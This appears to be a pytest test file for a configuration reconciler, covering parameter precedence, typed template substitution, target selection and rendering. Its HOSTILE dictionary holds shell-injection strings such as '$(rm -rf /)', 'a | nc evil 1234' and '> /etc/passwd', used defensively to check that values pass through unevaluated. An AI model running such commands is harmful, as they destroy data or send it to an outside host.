"""reconciler.core.rendering: parameter precedence, provenance, target selection, rendering.

Every test writes a real fleet repository (YAML dumped from Python values, so that hostile
strings are encoded by a YAML emitter rather than by hand), loads it with the real loader and
calls the pure rendering functions on the result.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler.core.loading import load_fleet
from reconciler.core.model import Fleet
from reconciler.core.rendering import (
    component_order,
    render_placement,
    resolve_params,
    select_targets,
)
from reconciler.core.validation import validate_repository

API = "reconciler/v1"

# Every place a parameter value can be set, lowest precedence first (DESIGN §2).
LAYERS = ["default", "profile", "instance", "region", "region-scoped", "factory",
          "factory-scoped", "line", "line-scoped", "target"]
LEVEL = {"default": "default", "profile": "profile:prof", "instance": "instance",
         "region": "region", "region-scoped": "region", "factory": "factory",
         "factory-scoped": "factory", "line": "line", "line-scoped": "line", "target": "target"}
OBJECT = {"default": "Solution/app", "profile": "Solution/app", "instance": "Instance/inst",
          "region": "Site/r", "region-scoped": "Site/r", "factory": "Site/f",
          "factory-scoped": "Site/f", "line": "Site/l", "line-scoped": "Site/l",
          "target": "Target/t1"}
FILE = {"default": "solutions/app/solution.yaml", "profile": "solutions/app/solution.yaml",
        "instance": "instances.yaml", "target": "targets.yaml"}
FIELD = {"default": "spec.parameters.p.default", "profile": "spec.profiles.prof.p",
         "instance": "spec.params.p", "target": "spec.params.p"}


def doc(kind: str, name: str, spec: dict[str, Any], labels: dict[str, str] | None = None
        ) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name}
    if labels:
        meta["labels"] = labels
    return {"apiVersion": API, "kind": kind, "metadata": meta, "spec": spec}


def site(name: str, parent: str | None, labels: dict[str, str], params: dict[str, Any],
         scoped: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = {}
    if parent:
        spec["parent"] = parent
    if params:
        spec["params"] = params
    if scoped:
        spec["solutionParams"] = {"app": scoped}
    return doc("Site", name, spec, labels)


def target(name: str, site_name: str, labels: dict[str, str],
           params: dict[str, Any] | None = None) -> dict[str, Any]:
    spec: dict[str, Any] = {"site": site_name, "bindings": [
        {"role": "config-file", "provider": "file", "config": {"root": f"/srv/{name}"}}]}
    if params:
        spec["params"] = params
    return doc("Target", name, spec, labels)


def dump(path: Path, docs: list[dict[str, Any]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump_all(docs, sort_keys=False, allow_unicode=True))


def build(tmp_path: Path, p_at: dict[str, Any] | None = None, *,
          parameters: dict[str, Any] | None = None,
          components: list[dict[str, Any]] | None = None,
          instance: dict[str, Any] | None = None,
          extra_targets: list[dict[str, Any]] | None = None,
          instance_params: dict[str, Any] | None = None) -> Path:
    """A three-level fleet: r/f/l and r2/f2/l2, targets t1 (l), t2 (l2), t3 (f2)."""
    at = p_at or {}
    root = tmp_path / "repo"

    def layer(name: str) -> dict[str, Any]:
        return {"p": at[name]} if name in at else {}

    dump(root / "reconciler.yaml", [{
        "apiVersion": API, "kind": "Settings", "metadata": {"name": "fleet"},
        "spec": {"hierarchy": ["region", "factory", "line"]}}])
    dump(root / "sites.yaml", [
        site("r", None, {"region": "r", "tier": "gold"}, layer("region"), layer("region-scoped")),
        site("f", "r", {"plant": "f"}, layer("factory"), layer("factory-scoped")),
        site("l", "f", {"line": "1", "tier": "silver"}, layer("line"), layer("line-scoped")),
        site("r2", None, {"region": "r2", "tier": "gold"}, {}, {}),
        site("f2", "r2", {"plant": "f2"}, {}, {}),
        site("l2", "f2", {"line": "1"}, {}, {}),
    ])
    dump(root / "targets.yaml", [
        target("t1", "l", {"role": "gw"}, layer("target")),
        target("t2", "l2", {"role": "gw"}),
        target("t3", "f2", {"role": "hmi", "tier": "bronze"}),
        *(extra_targets or []),
    ])
    p_rules: dict[str, Any] = {"type": "string"}
    if "default" in at:
        p_rules["default"] = at["default"]
    params = {"p": p_rules, **(parameters or {})}
    spec: dict[str, Any] = {
        "parameters": params,
        "components": components or [
            {"name": "conf", "type": "config-file",
             "properties": {"path": "app.conf", "content": "p=${{ params.p }}\n"}}],
    }
    if "profile" in at:
        spec["profiles"] = {"prof": {"p": at["profile"]}}
    dump(root / "solutions/app/solution.yaml", [doc("Solution", "app", spec)])
    inst_spec: dict[str, Any] = {"solution": "app", "targets": {"names": ["t1"]}}
    if "profile" in at:
        inst_spec["profile"] = "prof"
    inst_params = {**layer("instance"), **(instance_params or {})}
    if inst_params:
        inst_spec["params"] = inst_params
    inst_spec.update(instance or {})
    dump(root / "instances.yaml", [doc("Instance", "inst", inst_spec)])
    return root


def fleet_of(root: Path) -> Fleet:
    loaded = load_fleet(root)
    assert [d.format() for d in loaded.diagnostics if d.is_error] == []
    return loaded.fleet


def resolved_p(root: Path) -> Any:
    fleet = fleet_of(root)
    inst = fleet.instances["inst"]
    return resolve_params(fleet, inst, fleet.targets["t1"], fleet.solutions[inst.solution])


def line_containing(root: Path, rel: str, needle: str) -> int:
    for number, text in enumerate((root / rel).read_text().splitlines(), start=1):
        if needle in text:
            return number
    raise AssertionError(f"{needle!r} not in {rel}")


def file_of(layer: str) -> str:
    return FILE.get(layer, "sites.yaml")


def field_of(layer: str) -> str:
    return FIELD.get(layer, "spec.solutionParams.app.p" if layer.endswith("-scoped")
                     else "spec.params.p")


# -- precedence ----------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("lower", "higher"),
    [pytest.param(lo, hi, id=f"{hi}-beats-{lo}") for lo, hi in itertools.pairwise(LAYERS)],
)
def test_higher_layer_wins_over_the_adjacent_lower_one(tmp_path: Path, lower: str,
                                                        higher: str) -> None:
    root = build(tmp_path, {lower: f"v-{lower}", higher: f"v-{higher}"})
    p = resolved_p(root)["p"]
    assert p.value == f"v-{higher}"
    assert (p.origin.level, p.origin.obj, p.origin.path, p.origin.field) == (
        LEVEL[higher], OBJECT[higher], file_of(higher), field_of(higher))
    assert [o.level for o in p.overridden] == [LEVEL[lower]]
    assert p.overridden[0].obj == OBJECT[lower]
    assert p.overridden[0].field == field_of(lower)


def test_whole_chain_is_in_precedence_order_with_file_and_line(tmp_path: Path) -> None:
    root = build(tmp_path, {name: f"v-{name}" for name in LAYERS})
    p = resolved_p(root)["p"]
    chain = [*p.overridden, p.origin]
    assert [(o.level, o.obj, o.field) for o in chain] == [
        (LEVEL[n], OBJECT[n], field_of(n)) for n in LAYERS]
    for origin, name in zip(chain, LAYERS, strict=True):
        # the line of the key that set the value (the value text is unique per layer)
        assert origin.path == file_of(name)
        assert origin.line == line_containing(root, origin.path, f"v-{name}"), name
    assert p.value == "v-target"
    assert p.origin.format() == (
        f"targets.yaml:{p.origin.line} (target, Target/t1 spec.params.p)")


@pytest.mark.parametrize(
    "only",
    [pytest.param(name, id=name) for name in LAYERS],
)
def test_value_set_at_a_single_level_has_no_overridden_chain(tmp_path: Path, only: str) -> None:
    root = build(tmp_path, {only: f"v-{only}"})
    p = resolved_p(root)["p"]
    assert (p.value, p.origin.level, p.overridden) == (f"v-{only}", LEVEL[only], ())
    assert p.origin.line == line_containing(root, file_of(only), f"v-{only}")


def test_unset_parameter_without_default_is_absent(tmp_path: Path) -> None:
    assert "p" not in resolved_p(build(tmp_path, {}))


def test_general_site_params_only_reach_solutions_that_declare_them(tmp_path: Path) -> None:
    root = build(tmp_path, {"region": "v-region"})
    text = (root / "sites.yaml").read_text().replace("p: v-region", "p: v-region\n    other: 1")
    (root / "sites.yaml").write_text(text)
    resolved = resolved_p(root)
    assert set(resolved) == {"p"}


def test_secret_flag_travels_with_the_value(tmp_path: Path) -> None:
    root = build(tmp_path, {"line": "v-line"},
                 parameters={"token": {"type": "string", "secret": True}},
                 instance_params={"token": "s3cr3t"})
    resolved = resolved_p(root)
    assert resolved["token"].secret and not resolved["p"].secret


# -- typed substitution through a whole placement ------------------------------------------

TYPED = {
    "n": {"type": "integer", "default": 3},
    "b": {"type": "boolean", "default": False},
    "items": {"type": "list", "default": ["a", "b"]},
    "conf": {"type": "dict", "default": {"k": 1, "nested": {"x": [1, 2]}}},
    "opt": {"type": "string"},
}


@pytest.mark.parametrize(
    ("prop", "expected"),
    [
        pytest.param("${{ params.n }}", 3, id="int-keeps-type"),
        pytest.param("${{ params.b }}", False, id="bool-keeps-type"),
        pytest.param("${{ params.items }}", ["a", "b"], id="list-keeps-type"),
        pytest.param("${{ params.conf }}", {"k": 1, "nested": {"x": [1, 2]}},
                     id="dict-keeps-type"),
        pytest.param("  ${{ params.n }}  ", 3, id="surrounding-blanks-still-whole"),
        pytest.param("${{ params.n + 1 }}", 4, id="expression-keeps-type"),
        pytest.param("n=${{ params.n }}", "n=3", id="interpolated-is-string"),
        pytest.param("${{ params.n }}${{ params.n }}", "33", id="two-expressions-are-string"),
        pytest.param("${{ params.b }}!", "False!", id="bool-interpolated"),
        pytest.param("${{ params.items | tojson }}", '["a", "b"]', id="tojson-filter"),
        pytest.param("${{ params.conf | tojson }}", '{"k": 1, "nested": {"x": [1, 2]}}',
                     id="tojson-dict"),
        pytest.param("${{ params.opt | default('fallback') }}", "fallback",
                     id="default-filter-for-unset-param"),
        pytest.param("x-${{ params.opt | default('none') }}", "x-none",
                     id="default-filter-interpolated"),
        pytest.param("${{ params.conf.nested.x[1] }}", 2, id="nested-lookup-keeps-type"),
        pytest.param("no template", "no template", id="plain-string"),
    ],
)
def test_typed_substitution(tmp_path: Path, prop: str, expected: Any) -> None:
    components = [{"name": "c", "type": "config-file",
                   "properties": {"value": prop, "list": [prop], "map": {"k": prop}}}]
    root = build(tmp_path, parameters=TYPED, components=components)
    fleet = fleet_of(root)
    inst = fleet.instances["inst"]
    placement = render_placement(fleet, inst, fleet.targets["t1"], fleet.solutions["app"])
    assert placement.problems == ()
    props = placement.components[0].properties
    assert props["value"] == expected and type(props["value"]) is type(expected)
    assert props["list"] == [expected] and props["map"] == {"k": expected}


def test_context_names_target_and_site(tmp_path: Path) -> None:
    content = ("${{ target.name }} ${{ site.name }} ${{ site.path }} ${{ site.level }} "
               "${{ site.labels.tier }} ${{ target.labels.tier }} ${{ instance.name }} "
               "${{ solution.name }}")
    components = [{"name": "c", "type": "config-file",
                   "properties": {"path": "x", "content": content}}]
    root = build(tmp_path, components=components, instance={"targets": {"names": ["t3"]}})
    fleet = fleet_of(root)
    placement = render_placement(fleet, fleet.instances["inst"], fleet.targets["t3"],
                                 fleet.solutions["app"], revision="abc123")
    component = placement.components[0]
    assert component.properties["content"] == "t3 f2 r2/f2 factory gold bronze inst app"
    assert (component.site, component.revision, component.target) == ("r2/f2", "abc123", "t3")
    assert component.base_dir == fleet.root / "solutions/app"


def test_undefined_name_at_render_time_is_a_problem_not_an_exception(tmp_path: Path) -> None:
    components = [{"name": "c", "type": "config-file",
                   "properties": {"path": "x", "content": "${{ site.labels.missing }}"}}]
    root = build(tmp_path, components=components)
    fleet = fleet_of(root)
    placement = render_placement(fleet, fleet.instances["inst"], fleet.targets["t1"],
                                 fleet.solutions["app"])
    assert [(p.obj, p.field) for p in placement.problems] == [
        ("Solution/app", "spec.components[0].properties.content")]
    assert "'missing' is undefined" in placement.problems[0].message
    assert placement.problems[0].line == line_containing(root, "solutions/app/solution.yaml",
                                                         "content:")


def test_components_come_out_in_depends_on_order(tmp_path: Path) -> None:
    def comp(name: str, *deps: str) -> dict[str, Any]:
        out: dict[str, Any] = {"name": name, "type": "config-file",
                               "properties": {"path": name, "content": name}}
        if deps:
            out["dependsOn"] = list(deps)
        return out

    components = [comp("d", "c"), comp("a"), comp("c", "b", "a"), comp("b", "a"), comp("e")]
    root = build(tmp_path, components=components)
    fleet = fleet_of(root)
    assert component_order(fleet.solutions["app"]) == ["a", "e", "b", "c", "d"]
    placement = render_placement(fleet, fleet.instances["inst"], fleet.targets["t1"],
                                 fleet.solutions["app"])
    assert [c.name for c in placement.components] == ["a", "e", "b", "c", "d"]
    assert placement.components[-1].depends_on == ("c",)


# -- hostile values -------------------------------------------------------------------------

HOSTILE = {
    "command-substitution": "$(rm -rf /)",
    "backticks": "`id`; echo `whoami`",
    "semicolon": "a; rm -rf / ; b",
    "pipe": "a | nc evil 1234",
    "ampersands": "x && y || z &",
    "redirects": "> /etc/passwd < /dev/null 2>&1",
    "quotes": "\"double\" 'single' \\\"escaped\\\"",
    "newlines": "line1\nline2\n\nline4\n",
    "crlf": "one\r\ntwo",
    "tab-and-spaces": "\t  indented  \t",
    "unicode": "Grüße ✓ 中文 🚀 \u200b zero-width",
    "template-lookalike": "${{ params.x }}",
    "block-lookalike": "${% for i in range(9) %}x${% endfor %}",
    "jinja-default-syntax": "{{ 7 * 7 }} {% if true %}y{% endif %}",
    "yaml-lookalike": "key: [value, {a: b}] # comment",
    "braces": "${{ ${ {{ }} }}",
    "percent-and-dollar": "$HOME %PATH% $$ ${x}",
    "backslashes": "C:\\Windows\\System32\\",
}


@pytest.mark.parametrize(("value",), [pytest.param(v, id=k) for k, v in HOSTILE.items()])
def test_hostile_values_survive_byte_for_byte(tmp_path: Path, value: str) -> None:
    components = [{"name": "c", "type": "config-file", "properties": {
        "path": "out.txt",
        "whole": "${{ params.v }}",
        "content": "pre[${{ params.v }}]post",
        "nested": {"list": ["${{ params.v }}", "<${{ params.v }}>"]},
        "json": "${{ params.v | tojson }}",
    }}]
    root = build(tmp_path, parameters={"v": {"type": "string"}, "x": {"type": "string",
                                                                      "default": "EVALUATED"}},
                 components=components, instance_params={"v": value})
    fleet = fleet_of(root)
    assert fleet.instances["inst"].params["v"] == value  # the YAML round trip is exact
    placement = render_placement(fleet, fleet.instances["inst"], fleet.targets["t1"],
                                 fleet.solutions["app"])
    assert placement.problems == ()
    props = placement.components[0].properties
    assert props["whole"] == value
    assert props["content"] == f"pre[{value}]post"
    assert props["nested"] == {"list": [value, f"<{value}>"]}
    assert props["content"].encode() == b"pre[" + value.encode() + b"]post"
    assert "EVALUATED" not in props["content"] and "49" not in props["content"]
    assert json.loads(props["json"]) == value and type(props["json"]) is str
    assert placement.components[0].params["v"] == value


# -- selection ------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("targets", "chosen"),
    [
        pytest.param({"names": ["t1"]}, ["t1"], id="one-name"),
        pytest.param({"names": ["t3", "t1"]}, ["t1", "t3"], id="names-sorted"),
        pytest.param({"names": ["t1", "absent"]}, ["t1"], id="unknown-name-skipped"),
        pytest.param({"selector": {"sites": ["r"]}}, ["t1"], id="region-subtree-by-name"),
        pytest.param({"selector": {"sites": ["r2"]}}, ["t2", "t3"], id="subtree-with-two-levels"),
        pytest.param({"selector": {"sites": ["f2"]}}, ["t2", "t3"], id="target-at-factory-level"),
        pytest.param({"selector": {"sites": ["r2/f2/l2"]}}, ["t2"], id="subtree-by-path"),
        pytest.param({"selector": {"sites": ["r/f2"]}}, [], id="wrong-path-matches-nothing"),
        pytest.param({"selector": {"sites": ["l", "l2"]}}, ["t1", "t2"], id="two-subtrees"),
        pytest.param({"selector": {"matchLabels": {"role": "gw"}}}, ["t1", "t2"],
                     id="target-label"),
        pytest.param({"selector": {"matchLabels": {"plant": "f2"}}}, ["t2", "t3"],
                     id="label-inherited-from-factory"),
        pytest.param({"selector": {"matchLabels": {"tier": "gold"}}}, ["t2"],
                     id="region-label-overridden-below"),
        pytest.param({"selector": {"matchLabels": {"tier": "silver"}}}, ["t1"],
                     id="line-label-overrides-region"),
        pytest.param({"selector": {"matchLabels": {"tier": "bronze"}}}, ["t3"],
                     id="target-label-overrides-site"),
        pytest.param({"selector": {"matchLabels": {"role": "gw", "line": "1"}}}, ["t1", "t2"],
                     id="all-labels-must-match"),
        pytest.param({"selector": {"matchLabels": {"role": "gw", "region": "r2"}}}, ["t2"],
                     id="labels-from-two-levels"),
        pytest.param({"selector": {"sites": ["r2"], "matchLabels": {"role": "hmi"}}}, ["t3"],
                     id="sites-and-labels-both-apply"),
        pytest.param({"names": ["t1"], "selector": {"sites": ["f2"],
                                                    "matchLabels": {"role": "hmi"}}},
                     ["t1", "t3"], id="names-plus-selector-union"),
        pytest.param({"names": ["t2"], "selector": {"sites": ["r2"]}}, ["t2", "t3"],
                     id="union-without-duplicates"),
    ],
)
def test_select_targets(tmp_path: Path, targets: dict[str, Any], chosen: list[str]) -> None:
    fleet = fleet_of(build(tmp_path, instance={"targets": targets}))
    assert [t.name for t in select_targets(fleet, fleet.instances["inst"])] == chosen


def test_new_matching_target_gets_the_instance_with_no_other_change(tmp_path: Path) -> None:
    instance = {"targets": {"selector": {"sites": ["r2"], "matchLabels": {"role": "gw"}}}}
    root = build(tmp_path, {"default": "v-default", "line": "v-line"}, instance=instance)
    before = validate_repository(root)
    assert before.ok, [d.format() for d in before.errors]
    assert sorted(before.placements) == ["t2"]
    new = target("t9", "l2", {"role": "gw"})
    (root / "more-targets.yaml").write_text(yaml.safe_dump(new, sort_keys=False))
    after = validate_repository(root)
    assert after.ok, [d.format() for d in after.errors]
    assert sorted(after.placements) == ["t2", "t9"]
    placed = after.placements["t9"][0]
    assert placed.instance.name == "inst"
    assert placed.components[0].target == "t9"
    assert placed.components[0].properties == {"path": "app.conf", "content": "p=v-default\n"}
    # the targets that were there before render exactly as before
    assert after.placements["t2"][0].components == before.placements["t2"][0].components
    # a target elsewhere with the same label does not match the site part of the selector
    other = target("t10", "l", {"role": "gw"})
    (root / "more-targets.yaml").write_text(yaml.safe_dump_all([new, other], sort_keys=False))
    assert sorted(validate_repository(root).placements) == ["t2", "t9"]
